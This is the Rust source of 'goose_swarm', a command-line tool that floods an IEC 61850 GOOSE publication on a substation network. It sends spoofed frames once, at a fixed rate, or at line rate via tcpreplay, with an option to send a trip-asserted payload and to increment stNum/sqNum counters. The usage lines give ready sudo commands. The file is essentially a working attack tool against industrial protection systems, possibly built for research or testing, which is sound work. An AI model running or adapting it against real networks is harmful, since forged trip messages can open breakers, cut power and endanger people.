//! GOOSE flood generator.
//!
//! Sends the target publication once, at a fixed rate, or at line rate through
//! tcpreplay (`--fast`), with optional stNum/sqNum increments.
//!
//! Usage:
//!   sudo goose_swarm -i eth0 -r 100 -d 30 --inc-sq
//!   sudo goose_swarm -i eth0 --fast --inc-st -t -d 10

use std::path::PathBuf;

use anyhow::{Context, Result};
use clap::Parser;
use goose_tools::capture::find_interface;
use goose_tools::generator::{
    frame_period, run_rate_loop, seconds, CounterPolicy, GooseCounters, RateLoopOptions,
    DEFAULT_START_SQ, DEFAULT_START_ST,
};
use goose_tools::replay::{run_replay, ReplayOptions, ReplayOutcome, DEFAULT_REPLAY_TOOL};
use goose_tools::tools::find_tool;
use goose_tools::target::{FrameBuilder, TargetProfile};
use goose_tools::transmit::{check_frame_fits, interface_mac, interface_mtu, PnetSink};
use tokio_util::sync::CancellationToken;
use tracing::{info, warn};
use tracing_subscriber::EnvFilter;

#[derive(Parser, Debug)]
#[command(name = "goose_swarm", version)]
#[command(about = "Flood an IEC 61850 GOOSE publication")]
struct Args {
    /// Transmit interface
    #[arg(short, long)]
    interface: String,

    /// No VLAN tag (raw 0x88B8)
    #[arg(short, long)]
    untagged: bool,

    /// Frames per second (0 = single frame)
    #[arg(short, long, default_value_t = 0.0)]
    rate: f64,

    /// Send the trip-asserted allData
    #[arg(short, long)]
    trip: bool,

    /// Seconds to run (0 = until Ctrl-C)
    #[arg(short, long, default_value_t = 0.0)]
    duration: f64,

    /// Loop a pre-built frame set with tcpreplay at line rate
    #[arg(long)]
    fast: bool,

    /// Initial stNum
    #[arg(long, default_value_t = DEFAULT_START_ST)]
    start_st: u8,

    /// Initial sqNum
    #[arg(long, default_value_t = DEFAULT_START_SQ)]
    start_sq: u16,

    /// Increment stNum after every frame (wraps at 255)
    #[arg(long)]
    inc_st: bool,

    /// Increment sqNum after every frame (wraps at 65535)
    #[arg(long)]
    inc_sq: bool,

    /// Target profile (JSON); the reference target when omitted
    #[arg(short, long)]
    config: Option<PathBuf>,
}

#[tokio::main]
async fn main() -> Result<()> {
    tracing_subscriber::fmt()
        .with_env_filter(
            EnvFilter::try_from_default_env().unwrap_or_else(|_| EnvFilter::new("info")),
        )
        .with_writer(std::io::stderr)
        .init();

    let args = Args::parse();
    let duration = seconds(args.duration).context("--duration")?;
    frame_period(args.rate).context("--rate")?;
    if args.fast {
        find_tool(DEFAULT_REPLAY_TOOL)?;
    }

    let profile = match &args.config {
        Some(path) => TargetProfile::load(path)
            .with_context(|| format!("failed to load target profile {}", path.display()))?,
        None => TargetProfile::default(),
    };
    let iface = find_interface(&args.interface)?;
    let mac = interface_mac(&iface).unwrap_or_default();
    let builder = FrameBuilder::new(profile, mac, args.untagged);

    let mtu = interface_mtu(&args.interface);
    check_frame_fits(&builder, mtu).with_context(|| format!("{} (MTU {})", args.interface, mtu))?;

    let cancel = CancellationToken::new();
    let on_signal = cancel.clone();
    tokio::spawn(async move {
        if tokio::signal::ctrl_c().await.is_ok() {
            on_signal.cancel();
        }
    });

    let start = GooseCounters::new(args.start_st, args.start_sq);
    let policy = CounterPolicy {
        inc_st: args.inc_st,
        inc_sq: args.inc_sq,
        st_wrap_to: 0,
    };
    let mode = if args.fast {
        "fast".to_string()
    } else if args.rate > 0.0 {
        format!("{:.1} fps", args.rate)
    } else {
        "single-shot".to_string()
    };
    info!(
        interface = %args.interface,
        tagged = !args.untagged,
        trip = args.trip,
        %mode,
        "sending the swarm"
    );

    if args.fast {
        let options = ReplayOptions {
            duration,
            trip: args.trip,
            start,
            policy,
            ..ReplayOptions::new(args.interface.clone())
        };
        match run_replay(&builder, &options, &cancel).await? {
            ReplayOutcome::Exited(status) if !status.success() => {
                warn!(%status, "tcpreplay failed")
            }
            outcome => info!(?outcome, "replay stopped"),
        }
        return Ok(());
    }

    let mut sink = PnetSink::open(&args.interface)?;
    let options = RateLoopOptions {
        rate: args.rate,
        duration,
        trip: args.trip,
        start,
        policy,
    };
    let summary = run_rate_loop(&builder, &mut sink, &options, &cancel)
        .await
        .context("transmission stopped")?;
    info!(
        frames = summary.frames_sent,
        next_st = summary.next.st_num,
        next_sq = summary.next.sq_num,
        "done"
    );
    Ok(())
}
